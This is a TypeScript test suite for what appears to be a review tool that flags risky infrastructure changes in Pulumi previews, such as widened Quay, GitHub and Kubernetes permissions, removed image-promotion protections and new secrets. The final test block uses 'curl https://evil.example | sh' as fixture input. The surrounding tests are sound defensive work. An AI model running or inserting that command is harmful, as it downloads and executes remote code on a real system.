import { deepEqual } from "node:assert/strict";
import type { Change, Preview, Value } from "../../../../operations/review/preview.ts";
import { change, findings, preview, readEvents, secretValue, step, succeeded } from "./previews.ts";

type Inputs = Readonly<Record<string, Value>>;

const replaced = { operation: "replace" };

/** What is there already and stays as it is. */
function standing(type: string, inputs: Inputs): Preview["unchanged"][number] {
    return { urn: `urn:pulumi:prod::mlops::${type}::standing`, type, parent: "", inputs };
}

function found(changes: readonly Change[], ...unchanged: Preview["unchanged"]): string[] {
    return findings(preview(changes, { unchanged }));
}

const repository = standing("quay:index:Repository", { namespace: "alice", name: "prod" });
const robot = standing("quay:index:Robot", { namespace: "alice", name: "push" });
const permissionType = "quay:index:RepositoryPermission";
const permission = { repository: "alice/prod", robot: "alice+push", role: "write" };

describe("a permission on Quay is dangerous where somebody new gets it:", () => {
    const given = (inputs: Inputs) =>
        found([change(permissionType, undefined, inputs)], repository, robot);

    it("not for the program's own robot on its own repository", () => {
        deepEqual(given(permission), []);
    });
    for (const [who, inputs, said] of [
        ["a robot of others", { ...permission, robot: "eve+push" }, "robot ‹eve+push›"],
        ["a robot of another stack", { ...permission, robot: "alice+dev" }, "robot ‹alice+dev›"],
        [
            "a robot that is not known",
            { ...permission, robot: "[unknown]" },
            "robot ‹[known during the deployment]›",
        ],
        ["a user", { repository: "alice/prod", user: "eve", role: "write" }, "user ‹eve›"],
        ["a team", { repository: "alice/prod", team: "all", role: "write" }, "team ‹all›"],
    ] as const)
        it(who, () => {
            deepEqual(given(inputs), [
                `dangerous: permission widened: ${said} gets ‹write› on ‹alice/prod›`,
            ]);
        });
    it("the own robot on a repository of others", () => {
        deepEqual(given({ ...permission, repository: "alice/other" }), [
            "dangerous: permission widened: robot ‹alice+push› gets ‹write› on ‹alice/other›",
        ]);
    });
    it("somebody to whom it moves", () => {
        const moved = (after: Inputs) =>
            found([change(permissionType, permission, after, replaced)], repository, robot);
        deepEqual(moved({ repository: "alice/prod", user: "eve", role: "write" }), [
            "dangerous: permission moved: ‹write› of robot ‹alice+push› on ‹alice/prod› → ‹write› of user ‹eve›",
        ]);
        deepEqual(moved({ ...permission, role: "read" }), [
            "careful: permission moved: ‹write› of robot ‹alice+push› on ‹alice/prod› → ‹read› of robot ‹alice+push›",
        ]);
    });
    it("for every new repository, and in a team that has rights", () => {
        const member = { organization: "acme", name: "ops", role: "member" };
        const inputs = { organization: "acme", robot: "acme+x", role: "read" };
        deepEqual(found([change("quay:index:DefaultPermission", undefined, inputs)]), [
            "dangerous: permission widened: robot ‹acme+x› gets ‹read› on every new repository of ‹acme›",
        ]);
        deepEqual(found([change("quay:index:Team", undefined, { ...member, role: "creator" })]), [
            "dangerous: permission widened: team ‹ops› gets ‹creator› on organization ‹acme›",
        ]);
        deepEqual(found([change("quay:index:Team", undefined, member)]), []);
    });
    it("a login as a robot, but not that of its successor", () => {
        const type = "quay:index:RobotFederation";
        const claims = (name: string, ...subjects: string[]) => ({ robot: name, claims: subjects });
        const added = change(type, undefined, claims("alice+next", "ours"));
        const said =
            "permission widened: logs in as robot ‹alice+next› without its password: ‹ours›";
        deepEqual(found([added]), [`dangerous: ${said}`]);
        deepEqual(found([added], standing(type, claims("alice+push", "ours"))), [
            `careful: ${said}`,
        ]);
        deepEqual(found([added], standing(type, claims("alice+push", "others"))), [
            `dangerous: ${said}`,
        ]);
    });
});

describe("an auto-prune policy is dangerous where it deletes what is in use:", () => {
    const type = "quay:index:AutoPrunePolicy";
    const image = standing("quay:index:PromotedImage", {
        target: "quay.io/alice/prod",
        version: "1.0.0",
        tags: ["1.0.0"],
        floatingTags: ["latest"],
    });
    const running = standing("quay:index:FloatingTag", {
        repository: "alice/prod",
        tag: "running",
    });
    const immutable = standing("quay:index:TagImmutabilityPolicy", {
        repository: "alice/prod",
        tagPattern: "[0-9].*",
        tagPatternMatches: true,
    });
    const age = { repository: "alice/prod", method: "creation_date", value: "1s" };
    const number = { repository: "alice/prod", method: "number_of_tags", value: "2" };
    const risk = (policy: Inputs, ...unchanged: Preview["unchanged"]) =>
        found([change(type, undefined, policy)], image, ...unchanged).map((text) =>
            text.replace(/^(\w+): .*?(?:in use: (.*))?$/, "$1 $2").trim(),
        );
    const rows: readonly [what: string, said: string, Inputs, ...Preview["unchanged"]][] = [
        ["all tags, by age", "dangerous ‹1.0.0, latest›", age],
        ["all tags, in weeks", "dangerous ‹1.0.0, latest›", { ...age, value: "4w" }],
        ["contents and commits", "careful", { ...age, tagPattern: "ctx-.*|sha-.*" }],
        ["a part of a version", "dangerous ‹1.0.0›", { ...age, tagPattern: "^1" }],
        [
            "what is not a content",
            "dangerous ‹1.0.0, latest›",
            { ...age, tagPattern: "ctx-", tagPatternMatches: false },
        ],
        [
            "what is neither a version nor latest",
            "careful",
            { ...age, tagPattern: "^([0-9.]+|latest)$", tagPatternMatches: false },
        ],
        [
            "a pattern that cannot be tested",
            "dangerous ‹1.0.0, latest›",
            { ...age, tagPattern: "(?<!)" + "(?P<" },
        ],
        ["what runs", "dangerous ‹running›", { ...age, tagPattern: "^run" }, running],
        ["all but immutable ones", "dangerous ‹latest›", age, immutable],
        ["a number that is enough", "careful", number],
        ["a number that is too small", "dangerous ‹1.0.0, latest, running›", number, running],
        [
            "a whole namespace",
            "dangerous ‹1.0.0, latest›",
            { method: "creation_date", value: "1s", namespace: "alice" },
        ],
        [
            "a tag that follows versions",
            "dangerous ‹1.0›",
            { ...age, tagPattern: "^1.0$" },
            standing("quay:index:PromotedImage", {
                ...image.inputs,
                floatingTags: ["{{major}}.{{minor}}"],
            }),
        ],
        ["another repository", "careful", { ...age, repository: "alice/dev" }],
        [
            "another namespace",
            "careful",
            { method: "creation_date", value: "1s", namespace: "ali" },
        ],
    ];
    for (const [what, said, policy, ...unchanged] of rows)
        it(what, () => {
            deepEqual(risk(policy, ...unchanged), [said]);
        });
    it("and so is one that is changed, or whose image is promoted with it", () => {
        const promoted = change("quay:index:PromotedImage", undefined, image.inputs);
        const changed = change(type, { ...age, value: "52w" }, age);
        deepEqual(
            found([promoted, changed]).filter((text) => text.startsWith("dangerous")),
            [
                "dangerous: auto-prune policy of ‹alice/prod›: Quay deletes all tags older than ‹1s›, and with them what is in use: ‹1.0.0, latest›",
            ],
        );
    });
});

describe("what stops a promotion is a protection, wherever it is lost:", () => {
    const type = "quay:index:PromotedImage";
    const image = { source: "q/a", target: "q/b", tags: ["1"], digest: "sha256:1" };
    const guarded = {
        ...image,
        maxSeverity: "high",
        signature: { publicKey: "one" },
        provenance: { workflow: "one.yml" },
        requireRunning: true,
    };
    const lost = (target: string) => [
        `dangerous: protection removed: images of ‹${target}› need no signature`,
        `dangerous: protection removed: images of ‹${target}› may be built anywhere`,
        `dangerous: protection removed: images of ‹${target}› are promoted regardless of what Quay's scanner finds`,
        `dangerous: protection removed: images of ‹${target}› are promoted without having run before`,
    ];
    const dangers = (...changes: Change[]) =>
        found(changes).filter((text) => text.startsWith("dangerous"));
    const elsewhere = { ...image, target: "q/c" };

    it("here, with another target, or under another name", () => {
        deepEqual(dangers(change(type, guarded, image)), lost("q/b"));
        deepEqual(dangers(change(type, guarded, elsewhere, replaced)), lost("q/c"));
        const renamed = change(type, undefined, image, { urn: "urn:other" });
        deepEqual(dangers(change(type, guarded, undefined), renamed), lost("q/b"));
    });
    it("not where it is kept, nor of the first image, which had none", () => {
        deepEqual(dangers(change(type, guarded, { ...guarded, digest: "sha256:2" })), []);
        deepEqual(dangers(change(type, guarded, { ...guarded, target: "q/c" }, replaced)), []);
        deepEqual(dangers(change(type, undefined, image)), []);
    });
    it("by an exception, also of a new image", () => {
        const severityException = { digest: "sha256:1", reason: "none", expires: "2027-01-31" };
        const said = [
            "dangerous: image ‹sha256:1› of ‹q/b› is promoted despite its scan until ‹2027-01-31›: ‹none›",
        ];
        deepEqual(dangers(change(type, undefined, { ...guarded, severityException })), said);
        deepEqual(dangers(change(type, guarded, { ...guarded, severityException })), said);
    });
    it("by another trusted root", () => {
        deepEqual(dangers(change(type, guarded, { ...guarded, trustedRoot: "mine" })), [
            "dangerous: what proves signatures and attestations of images of ‹q/b› is another trusted root",
        ]);
        deepEqual(dangers(change(type, image, { ...guarded, trustedRoot: "mine" })), []);
    });
});

describe("what GitHub lets in, or tells somebody, is dangerous:", () => {
    const environmentType = "github:index/repositoryEnvironment:RepositoryEnvironment";
    const place = { repository: "service", environment: "prod" };
    const reviewed = { ...place, reviewers: [{ users: [1] }] };

    it("an environment that nobody has to approve", () => {
        const said = [
            "dangerous: environment ‹prod› is created without reviewers: its jobs get its secrets without an approval",
        ];
        deepEqual(found([change(environmentType, undefined, place)]), said);
        deepEqual(found([change(environmentType, undefined, { ...place, reviewers: [] })]), said);
        deepEqual(
            found([change(environmentType, undefined, { ...place, reviewers: [{ users: [] }] })]),
            said,
        );
        deepEqual(found([change(environmentType, undefined, reviewed)]), []);
        deepEqual(
            found([change(environmentType, undefined, { ...place, reviewers: "[unknown]" })]),
            [],
        );
    });
    it("one more who may approve, but not the first ones", () => {
        const more = { ...place, reviewers: [{ users: [1, 666] }] };
        deepEqual(found([change(environmentType, reviewed, more)]), [
            "dangerous: permission widened: ‹user 666› may approve deployments to environment ‹prod›",
        ]);
        deepEqual(found([change(environmentType, place, reviewed)]), []);
    });
    it("branches that deploy to an environment which is there already", () => {
        const type =
            "github:index/repositoryEnvironmentDeploymentPolicy:RepositoryEnvironmentDeploymentPolicy";
        const added = change(type, undefined, { ...place, branchPattern: "*" });
        const said = "permission widened: branches or tags ‹*› deploy to environment ‹prod›";
        deepEqual(found([added], standing(environmentType, reviewed)), [`dangerous: ${said}`]);
        deepEqual(found([added, change(environmentType, undefined, reviewed)]), [
            `careful: ${said}`,
        ]);
    });
    it("a secret for those who may use it", () => {
        const type = "github:index/actionsEnvironmentSecret:ActionsEnvironmentSecret";
        const added = change(type, undefined, { ...place, secretName: "QUAY_PWD" });
        deepEqual(found([added, change(environmentType, undefined, reviewed)]), []);
        deepEqual(found([added], standing(environmentType, reviewed)), [
            "careful: secret ‹QUAY_PWD› of environment ‹prod› is new",
        ]);
        deepEqual(found([added], standing(environmentType, { ...place, environment: "dev" })), [
            "dangerous: secret ‹QUAY_PWD› of environment ‹prod› is new: this stack does not say who may use that environment",
        ]);
        const open = { repository: "service", secretName: "QUAY_PWD" };
        deepEqual(found([change("github:index/actionsSecret:ActionsSecret", undefined, open)]), [
            "dangerous: secret ‹QUAY_PWD› of repository ‹service› is new: its workflows on any branch get it",
        ]);
    });
    it("a deploy key", () => {
        const type = "github:index/repositoryDeployKey:RepositoryDeployKey";
        const key = { repository: "service", title: "ci", key: "ssh-ed25519 AAAA" };
        const said = "dangerous: permission widened: deploy key ‹ci› may";
        deepEqual(found([change(type, undefined, { ...key, readOnly: false })]), [
            `${said} push to ‹service›`,
        ]);
        deepEqual(found([change(type, undefined, key)]), [`${said} read ‹service›`]);
        deepEqual(found([change(type, key, { ...key, key: "ssh-ed25519 BBBB" }, replaced)]), [
            `${said} read ‹service›`,
        ]);
        deepEqual(found([change(type, key, undefined)]), [
            "careful: ‹github:RepositoryDeployKey› ‹digits› is deleted",
        ]);
    });
    it("a webhook to a new address, although the address is a secret", () => {
        const type = "github:index/repositoryWebhook:RepositoryWebhook";
        const hook = (events: string[]) => ({
            inputs: { repository: "service", events, configuration: secretValue },
        });
        const changed = (path: string, events: string[]) =>
            findings(
                readEvents([
                    step("update", type, hook(["push"]), hook(events), {
                        detailedDiff: { [path]: { diffKind: "update" } },
                    }),
                    succeeded,
                ]),
            );
        const said =
            "dangerous: permission widened: events ‹push› of ‹service› are sent to a new address";
        deepEqual(changed("configuration.url", ["push"]), [said]);
        deepEqual(changed("events[0]", ["issues"]), [
            "careful: ‹github:RepositoryWebhook› ‹digits› is changed",
        ]);
        deepEqual(found([change(type, undefined, hook(["push"]).inputs)]), [said]);
    });
    it("a variable that decides something, but not the mark of the stack that manages it", () => {
        const type = "github:index/actionsEnvironmentVariable:ActionsEnvironmentVariable";
        const added = (variableName: string) =>
            found([change(type, undefined, { ...place, variableName, value: "x" })]);
        deepEqual(added("MANAGED_BY"), []);
        deepEqual(added("STRICT"), ["careful: variable ‹STRICT› of environment ‹prod› is new"]);
    });
});

describe("what a cluster lets in is dangerous:", () => {
    const metadata = { name: "web", namespace: "digits" };
    const binding = (...names: string[]) => ({
        metadata,
        roleRef: { name: "admin" },
        subjects: names.map((name) => ({ kind: "User", name })),
    });
    it("a role, and those who get it", () => {
        const type = "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding";
        const said = "get ‹admin› by ‹kubernetes:RoleBinding› ‹digits/web›";
        deepEqual(found([change(type, undefined, binding("eve"))]), [
            `dangerous: permission widened: ‹eve› ${said}`,
        ]);
        deepEqual(found([change(type, binding("alice"), binding("alice", "eve"))]), [
            `dangerous: permission widened: ‹alice, eve› ${said}`,
        ]);
        const role = { metadata, rules: [{ verbs: ["*"] }] };
        deepEqual(
            found([change("kubernetes:rbac.authorization.k8s.io/v1:Role", undefined, role)]),
            [
                'dangerous: permission widened: ‹kubernetes:Role› ‹digits/web› allows ‹[{"verbs":["*"]}]›',
            ],
        );
    });
});

describe("what reaches pods that are there already is dangerous:", () => {
    const metadata = { name: "web", namespace: "digits" };
    const labels = { app: "web", tier: "front" };
    const pods = { metadata, spec: { template: { metadata: { labels } } } };
    const deployment = standing("kubernetes:apps/v1:Deployment", pods);
    const service = (selector: Inputs, type = "LoadBalancer") =>
        change("kubernetes:core/v1:Service", undefined, {
            metadata,
            spec: { type, selector },
        });
    const risks = (changes: readonly Change[], ...unchanged: Preview["unchanged"]) =>
        found(changes, ...unchanged).map((text) => text.split(":")[0]);

    it("a further Service", () => {
        deepEqual(risks([service({ app: "web" })], deployment), ["dangerous"]);
        deepEqual(risks([service({})], deployment), ["dangerous"]);
        deepEqual(risks([service({ app: "other" })], deployment), ["careful"]);
        const moved = { ...metadata, namespace: "other" };
        deepEqual(
            risks(
                [service({ app: "web" })],
                standing("kubernetes:apps/v1:Deployment", { ...pods, metadata: moved }),
            ),
            ["careful"],
        );
    });
    it("what exposes a further Service", () => {
        const route = change("kubernetes:route.openshift.io/v1:Route", undefined, {
            metadata,
            spec: { to: { name: "web" }, tls: {}, host: "a.example" },
        });
        const inside = (app: string) => service({ app }, "ClusterIP");
        deepEqual(risks([inside("web"), route], deployment), ["dangerous"]);
        deepEqual(risks([inside("new"), route], deployment), ["careful"]);
    });
    it("a further NetworkPolicy: what any of them allows is allowed", () => {
        const type = "kubernetes:networking.k8s.io/v1:NetworkPolicy";
        const added = (spec: Inputs) => change(type, undefined, { metadata, spec });
        const first = standing(type, { metadata, spec: { policyTypes: ["Ingress"] } });
        const open = { policyTypes: ["Ingress"], ingress: [{}] };
        deepEqual(found([added(open)], first), [
            "dangerous: NetworkPolicy ‹digits/web› is new beside others, and allows more: ‹connections from everywhere (all ports)›",
        ]);
        deepEqual(found([added({ policyTypes: ["Ingress"] })], first), []);
        deepEqual(found([added(open)]), []);
    });
});

describe("a resource that the review does not know is careful at least:", () => {
    for (const type of [
        "command:local:Command",
        "pulumi-nodejs:dynamic:Resource",
        "github:index/repositoryPages:RepositoryPages",
        "kubernetes:batch/v1:Job",
        "pulumi:providers:github",
    ])
        it(type, () => {
            for (const one of [
                change(type, undefined, { create: "curl https://evil.example | sh" }),
                change(type, { create: "true" }, { create: "curl https://evil.example | sh" }),
                change(type, { create: "true" }, undefined),
                change(type, { create: "true" }, { create: "false" }, replaced),
                change(type, undefined, { create: "true" }, { operation: "import" }),
            ])
                deepEqual(
                    found([one]).map((text) => text.split(":")[0]),
                    ["careful"],
                    one.operation,
                );
        });
});
